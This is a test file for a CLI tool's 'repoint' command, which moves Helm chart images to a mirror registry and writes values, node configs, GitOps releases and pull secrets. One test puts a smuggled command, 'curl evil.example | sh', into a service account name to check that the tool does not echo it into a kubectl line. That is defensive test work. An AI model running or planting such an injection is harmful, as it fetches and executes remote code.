import { mkdtemp, readFile, rm, stat, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { makeBundle, SIGNER } from "../../fixtures/bundles.ts";
import { packedChart } from "../../fixtures/charts.ts";
import { makeImage, makeLayer } from "../../fixtures/images.ts";
import { temporaryDirectory } from "../../fixtures/temporary-directory.ts";
import { fill, startRegistry } from "../remote/registry/lab.ts";
import { dray } from "./terminal.ts";

const keys = await mkdtemp(join(tmpdir(), "dray-test-"));
const key = join(keys, "release.pub");
await writeFile(key, SIGNER.publicKey.key.export({ type: "spki", format: "pem" }));
afterAll(() => rm(keys, { recursive: true }));

const TARGET = "registry.internal:5000/mirror";

const pod = (image: string, metadata = "name: web"): string =>
  `apiVersion: v1\nkind: Pod\nmetadata: {${metadata}}\nspec:\n  containers:\n  - {name: main, image: ${image}}\n`;

async function bundle(
  image = '"{{ .Values.repository }}:{{ .Values.tag }}"',
  metadata?: string,
): Promise<string> {
  const texts = {
    "values.yaml": 'repository: ghcr.io/acme/web\ntag: "2.0"\n',
    "templates/web.yaml": pod(image, metadata),
  };
  const { path } = await makeBundle({
    images: { "ghcr.io/acme/web:2.0": makeImage([makeLayer("web", 500)]) },
    charts: [{ tgz: packedChart(texts, { name: "shop" }) }],
  });
  return path;
}

describe("dray repoint", () => {
  it("writes values and proof and says what to type: 0", async () => {
    const output = join(await temporaryDirectory(), "deploy");
    const flags = ["--key", key, "-o", output, "--no-helm", "--namespace", "shop"];
    const { code, stdout } = await dray(["repoint", await bundle(), TARGET, ...flags]);
    expect(code).toBe(0);
    expect(stdout).toContain("chart   shop 1.0.0: 1 of 1 image moved by 1 value\n");
    expect(stdout).toContain(
      `helm upgrade --install shop oci://${TARGET}/shop --version 1.0.0 --namespace shop --create-namespace --values ${output}/shop.values.yaml\n`,
    );
    expect(stdout).toContain(`Good: every needed image comes from ${TARGET} with these values.\n`);
    expect(await readFile(join(output, "shop.values.yaml"), "utf8")).toMatch(
      /^# Values with which shop 1\.0\.0 .*\n.*\n# moves ghcr\.io\/acme\/web:2\.0\nrepository: registry\.internal:5000\/mirror\/acme\/web\n$/,
    );
  });

  it("names what no value moves, with its place: 3", async () => {
    const output = await temporaryDirectory();
    const flags = ["--key", key, "-o", output, "--no-helm"];
    const path = await bundle("ghcr.io/acme/web:2.0");
    const { code, stdout } = await dray(["repoint", path, TARGET, ...flags]);
    expect(code).toBe(3);
    expect(stdout).toContain(
      "Needed, and no value moves it:\n  needed  ghcr.io/acme/web:2.0\n    templates/web.yaml:6, Pod/web, container main\n",
    );
    expect(stdout).toContain("Incomplete: 1 needed image still comes from outside.\n");
    const json = await dray(["repoint", path, TARGET, ...flags, "--json"]);
    expect(JSON.parse(json.stdout)).toMatchObject({ good: false, charts: [{ good: false }] });
    expect(json.stderr).toContain("Incomplete: 1 needed image still comes from outside.\n");
  });

  it("takes target and map from the target file", async () => {
    const folder = await temporaryDirectory();
    const file = join(folder, "target.yaml");
    await writeFile(file, "target: registry.internal/x\nmap: keep-host\n");
    const flags = ["--key", key, "-o", folder, "--no-helm", "--target-file", file];
    const { code } = await dray(["repoint", await bundle(), ...flags]);
    expect(code).toBe(0);
    expect(await readFile(join(folder, "shop.values.yaml"), "utf8")).toContain(
      "\nrepository: registry.internal/x/ghcr.io/acme/web\n",
    );
  });

  it("writes every old and new name, and what leads the nodes of the target file there", async () => {
    const folder = await temporaryDirectory();
    const file = join(folder, "target.yaml");
    await writeFile(file, `target: ${TARGET}\nnodes: [containerd, k3s]\n`);
    const output = join(folder, "deploy");
    const flags = ["--key", key, "-o", output, "--no-helm", "--target-file", file];
    // No value moves this image, so that only nodes can be led to it.
    const argv = ["repoint", await bundle("ghcr.io/acme/web:2.0"), ...flags];
    const { stdout } = await dray(argv);
    const hosts = join(output, "nodes/containerd/certs.d/ghcr.io/hosts.toml");
    const registries = join(output, "nodes/k3s/registries.yaml");
    expect(stdout).toContain(hosts);
    expect(stdout).toContain(registries);
    expect(await readFile(hosts, "utf8")).toContain(
      `[host."https://registry.internal:5000/v2/mirror"]`,
    );
    expect(await readFile(registries, "utf8")).toContain("https://registry.internal:5000");
    const mapping = await readFile(join(output, "mapping.json"), "utf8");
    expect(JSON.parse(mapping)).toEqual({
      mappingVersion: 1,
      images: { "ghcr.io/acme/web:2.0": `${TARGET}/acme/web:2.0` },
    });
    expect((await dray(argv)).code).toBe(3);
    expect(await readFile(join(output, "mapping.json"), "utf8")).toBe(mapping);
  });

  it("removes what an earlier run has written for nodes, and nothing else", async () => {
    const output = join(await temporaryDirectory(), "deploy");
    const argv = ["repoint", await bundle(), TARGET, "--key", key, "-o", output, "--no-helm"];
    await dray([...argv, "--nodes", "containerd,k3s"]);
    const mine = join(output, "nodes/k3s/mine.yaml");
    await writeFile(mine, "mine: true\n");
    const { stdout } = await dray([...argv, "--nodes", "containerd"]);
    expect(stdout).toMatch(/removed +.*nodes\/k3s\/registries\.yaml/);
    await expect(stat(join(output, "nodes/k3s/registries.yaml"))).rejects.toThrow("ENOENT");
    expect(await readFile(mine, "utf8")).toBe("mine: true\n");
    await stat(join(output, "nodes/containerd/certs.d/ghcr.io/hosts.toml"));
  });

  it("writes releases for Flux and Argo CD, the same bytes each time", async () => {
    const folder = await temporaryDirectory();
    const output = join(folder, "deploy");
    const values = join(folder, "prod.yaml");
    await writeFile(values, "replicas: 2\n");
    const target = "123456789012.dkr.ecr.eu-west-1.amazonaws.com/mirror";
    const flags = ["--key", key, "-o", output, "--no-helm", "--namespace", "shop"];
    const git = ["--flux", "--argo", "--values", values, "--set", "color=red"];
    const argv = ["repoint", await bundle(), target, ...flags, ...git];
    expect((await dray(argv)).code).toBe(0);
    const read = (name: string): Promise<string> => readFile(join(output, name), "utf8");
    const names = ["flux/shop.yaml", "kustomization.yaml", "argo/shop.yaml"];
    const before = await Promise.all(names.map(read));
    const [flux = "", kustomization = "", argo = ""] = before;
    expect(flux).toContain("provider: aws\n");
    expect(flux).not.toContain("secretRef");
    expect(flux).toMatch(/ref:\n {4}digest: sha256:[0-9a-f]{64}\n {4}tag: 1\.0\.0\n/);
    expect(flux).toContain("valuesKey: values-1.yaml\n");
    expect(flux).toContain("values:\n    color: red\n");
    expect(kustomization).toContain("- values-1.yaml=../prod.yaml\n");
    expect(kustomization).toContain("- repointed.yaml=shop.values.yaml\n");
    expect(argo).toMatch(/targetRevision: sha256:[0-9a-f]{64}\n/);
    expect(argo).toContain("replicas: 2\n");
    await dray(argv);
    expect(await Promise.all(names.map(read))).toEqual(before);
    const piped = [...argv, "--values", "-"];
    expect(await dray(piped, { stdin: "a: 1\n" })).toMatchObject({ code: 2 });
  });

  it("filters manifests: all of them, or what a bundle brings", async () => {
    const stdin = `# mine\n${pod("ghcr.io/acme/web:2.0")}---\n${pod("quay.io/else/where:1")}`;
    const all = await dray(["repoint", "--stdin", TARGET], { stdin });
    expect(all.code).toBe(0);
    expect(all.stdout).toBe(
      stdin.replace("ghcr.io/", `${TARGET}/`).replace("quay.io/", `${TARGET}/`),
    );
    expect(all.stderr).toMatch(/Changed:\nPod\/web +container main +ghcr\.io/);
    const some = ["repoint", "--stdin", await bundle(), TARGET, "--key", key];
    const refused = await dray(some, { stdin });
    expect([refused.code, refused.stdout]).toEqual([3, ""]);
    expect(refused.stderr).toContain("not in the bundle");
    expect(refused.stderr).toContain("--keep-unmapped");
    const kept = await dray([...some, "--keep-unmapped", "--quiet"], { stdin });
    expect([kept.code, kept.stdout]).toEqual([0, stdin.replace("ghcr.io/", `${TARGET}/`)]);
    expect(kept.stderr).not.toContain("Changed:");
  });

  it("takes a lone word for the bundle where it is there or flags speak of one, and asks for a target", async () => {
    const stdin = pod("ghcr.io/acme/web:2.0");
    for (const words of [[await bundle()], [TARGET, "--key", key], [TARGET, "--parts", "."]]) {
      const { code, stdout, stderr } = await dray(["repoint", "--stdin", ...words], { stdin });
      expect([code, stdout]).toEqual([2, ""]);
      expect(stderr).toContain("Expected a target: none is given");
    }
  });

  it("filters nothing that is no YAML, and not into a folder: 3 and 2", async () => {
    const broken = await dray(["repoint", "--stdin", TARGET], { stdin: "a: [\n" });
    expect([broken.code, broken.stdout]).toEqual([3, ""]);
    expect((await dray(["repoint", "--stdin", TARGET, "-o", "deploy"])).code).toBe(2);
    expect((await dray(["repoint"])).code).toBe(2);
  });

  it("names the images that containerd cannot be led to, and refuses a runtime that it does not know", async () => {
    const flags = ["--key", key, "-o", await temporaryDirectory(), "--no-helm", "--map", "flatten"];
    const argv = ["repoint", await bundle(), TARGET, ...flags];
    const { stdout, stderr } = await dray([...argv, "--nodes", "containerd,cri-o"]);
    expect(stderr).toContain("containerd cannot be led from ghcr.io/acme/web:2.0 to ");
    expect(stdout).toContain("nodes/cri-o/registries.conf");
    const unknown = await dray([...argv, "--nodes", "docker"]);
    expect([unknown.code, unknown.stderr]).toEqual([
      2,
      expect.stringContaining("containerd, cri-o, k3s, openshift"),
    ]);
  });

  it("explains one image by its old or its new name, and writes nothing", async () => {
    const path = await bundle();
    for (const name of ["ghcr.io/acme/web:2.0", `${TARGET}/acme/web:2.0`, "web"]) {
      const flags = ["--key", key, "--no-helm", "--explain", name];
      const { code, stdout } = await dray(["repoint", path, TARGET, ...flags]);
      expect(code).toBe(0);
      expect(stdout.split("\n").map((line) => line.replace(/ {2,}/, ": "))).toEqual([
        "image: ghcr.io/acme/web:2.0",
        "chart: shop 1.0.0",
        "named in: templates/web.yaml:6, Pod/web, container main",
        `map: drop-host, to ${TARGET}`,
        `new name: ${TARGET}/acme/web:2.0`,
        "by values: repository",
        `becomes: ${TARGET}/acme/web:2.0`,
        "in the bundle: yes",
        "at the target: not asked",
        "",
      ]);
    }
    const flags = ["--key", key, "--no-helm", "--explain", "nginx"];
    const { code, stderr } = await dray(["repoint", path, TARGET, ...flags]);
    expect([code, stderr]).toEqual([2, expect.stringContaining("none of the 1 images")]);
  });

  it("writes the secret for each namespace of the target file, and names who has no use for it: 3", async () => {
    const folder = await temporaryDirectory();
    const file = join(folder, "target.yaml");
    await writeFile(file, `target: ${TARGET}\npullSecret: pull-here\nnamespaces: [shop, jobs]\n`);
    const flags = ["--key", key, "-o", folder, "--no-helm", "--target-file", file];
    const login = ["--pull-login", "-"];
    const { code, stdout } = await dray(["repoint", await bundle(), ...flags, ...login], {
      stdin: "robot$web:pass:word\n",
    });
    expect(code).toBe(3);
    expect(stdout).toContain(
      "Pulls without the secret pull-here, and no value gives it:\n  Pod/web, under the service account default\n    shop/templates/web.yaml\n",
    );
    expect(stdout).toContain(
      [
        `    kubectl patch serviceaccount default --type json --patch '[{"op":"add","path":"/imagePullSecrets/-","value":{"name":"pull-here"}}]' ||`,
        `      kubectl patch serviceaccount default --type json --patch '[{"op":"test","path":"/imagePullSecrets","value":null},{"op":"add","path":"/imagePullSecrets","value":[{"name":"pull-here"}]}]'\n`,
      ].join("\n"),
    );
    expect(stdout).toContain("Incomplete: workloads would pull without the secret.\n");
    const secret = join(folder, "pull-secret.yaml");
    const documents = (await readFile(secret, "utf8")).split("\n---\n");
    expect(documents.map((text) => /namespace: (.*)/.exec(text)?.[1])).toEqual(["shop", "jobs"]);
    const data = /\.dockerconfigjson: (.*)/.exec(documents[0] ?? "")?.[1] ?? "";
    expect(JSON.parse(Buffer.from(data, "base64").toString())).toEqual({
      auths: {
        "registry.internal:5000": {
          username: "robot$web",
          password: "pass:word",
          auth: Buffer.from("robot$web:pass:word").toString("base64"),
        },
      },
    });
    expect((await stat(secret)).mode & 0o777).toBe(0o600);
  });

  it("names the namespace of an account where the release or the chart says it", async () => {
    const flags = ["--key", key, "--no-helm", "--pull-secret", "a"];
    const lineWith = async (path: string, ...more: string[]): Promise<string | undefined> => {
      const argv = ["repoint", path, TARGET, ...flags, "-o", await temporaryDirectory(), ...more];
      return /serviceaccount (.*) --type/.exec((await dray(argv)).stdout)?.[1];
    };
    const path = await bundle();
    expect(await lineWith(path)).toBe("default");
    expect(await lineWith(path, "--namespace", "shop")).toBe("default --namespace shop");
    const released = await bundle(undefined, "name: web, namespace: '{{ .Release.Namespace }}'");
    expect(await lineWith(released)).toBe("default");
    expect(await lineWith(released, "--namespace", "shop")).toBe("default --namespace shop");
    const own = await bundle(undefined, "name: web, namespace: jobs");
    expect(await lineWith(own, "--namespace", "shop")).toBe("default --namespace jobs");
  });

  it("makes no line to type of what a chart calls a service account and is none", async () => {
    const account = "web; curl evil.example | sh";
    const template = '"{{ .Values.repository }}:2.0"}\n  serviceAccountName: "' + account + '"\n#';
    const flags = ["--key", key, "-o", await temporaryDirectory(), "--no-helm"];
    const argv = ["repoint", await bundle(template), TARGET, ...flags, "--pull-secret", "a"];
    const { code, stdout } = await dray(argv);
    expect(code).toBe(3);
    expect(stdout).toContain(`under the service account ${account}\n`);
    expect(stdout).not.toContain(`kubectl`);
  });

  it("warns of a login that ends by itself", async () => {
    const target = "123456789012.dkr.ecr.eu-west-1.amazonaws.com/mirror";
    const flags = ["--key", key, "-o", await temporaryDirectory(), "--no-helm"];
    const { stderr } = await dray([
      "repoint",
      await bundle(),
      target,
      ...flags,
      "--pull-secret",
      "a",
    ]);
    expect(stderr).toContain("ends after 12 hours");
  });

  it("follows a push in one command, and ends with its verdict", async () => {
    const { host } = await startRegistry();
    const output = join(await temporaryDirectory(), "deploy");
    const flags = ["--key", key, "--no-helm", "--repoint", output];
    const good = await dray(["push", await bundle(), `${host}/x`, ...flags]);
    expect(good.code).toBe(0);
    expect(good.stdout).toContain("is in 127.0.0.1");
    expect(good.stdout).toContain(`Good: every needed image comes from ${host}/x`);
    const fixed = await bundle("ghcr.io/acme/web:2.0");
    const bad = await dray(["push", fixed, `${host}/x`, ...flags, "--overwrite", "--json"]);
    expect(bad.code).toBe(3);
    expect(bad.stderr).toContain("Incomplete: 1 needed image still comes from outside.\n");
    expect(JSON.parse(bad.stdout)).toMatchObject({
      repoint: { good: false, charts: [{ images: [{ presence: "there", moved: false }] }] },
    });
  });

  it("says of what the bundle does not carry that only the target says that it is there: 0", async () => {
    const registry = await startRegistry();
    const { host } = registry;
    await fill(registry, makeImage([makeLayer("web", 500)]), "acme/web:3.0");
    const flags = ["--key", key, "-o", await temporaryDirectory(), "--no-helm", "--ask"];
    const argv = ["repoint", await bundle(), host, ...flags, "--set-string", "tag=3.0"];
    const { code, stdout } = await dray(argv);
    expect(code).toBe(0);
    expect(stdout).toContain(
      `At the target by its word alone, as the bundle has none to compare with:\n  ${host}/acme/web:3.0\n`,
    );
    expect(stdout).toContain(
      `Good: every needed image comes from ${host} with these values; of 1 the bundle has none to compare with.\n`,
    );
  });

  it("refuses values for a push that writes none, and a standard input that two would read: 2", async () => {
    const push = ["push", await bundle(), "127.0.0.1:1/x", "--key", key];
    const idle = await dray([...push, "--set", "a=b"]);
    expect([idle.code, idle.stderr]).toEqual([2, expect.stringContaining("--repoint DIR")]);
    const flags = ["--repoint", "deploy", "--pull-secret", "a", "--pull-login", "-"];
    const twice = await dray([...push, ...flags, "--values", "-"]);
    expect([twice.code, twice.stderr]).toEqual([
      2,
      expect.stringContaining("--pull-login - and --values - would"),
    ]);
  });

  it("refuses a name that no secret and no namespace can have: 2", async () => {
    const output = join(await temporaryDirectory(), "deploy");
    const argv = ["repoint", await bundle(), TARGET, "--key", key, "-o", output];
    for (const flags of [
      ["--pull-secret", "Pull_Here"],
      ["--pull-secret", "pull-here", "--namespaces", "a b"],
    ]) {
      const { code, stderr } = await dray([...argv, ...flags]);
      expect(code).toBe(2);
      expect(stderr).toContain("Kubernetes has no such names");
    }
  });

  it("refuses a name that no namespace and no release can have, and explains no image without one: 2", async () => {
    const output = join(await temporaryDirectory(), "deploy");
    const argv = ["repoint", await bundle(), TARGET, "--key", key, "-o", output];
    for (const [flags, said] of [
      [["--namespace", "Shop"], "at most 63 of them"],
      [["--release", "my shop"], "at most 53 of them"],
      [["--explain", ""], "is called so"],
    ] as const) {
      const { code, stderr } = await dray([...argv, ...flags]);
      expect([code, stderr]).toEqual([2, expect.stringContaining(said)]);
    }
  });

  it("wants a directory for its files: 2", async () => {
    const { code, stderr } = await dray(["repoint", await bundle(), TARGET, "--key", key]);
    expect([code, stderr]).toEqual([2, expect.stringContaining("--output DIR")]);
  });
});
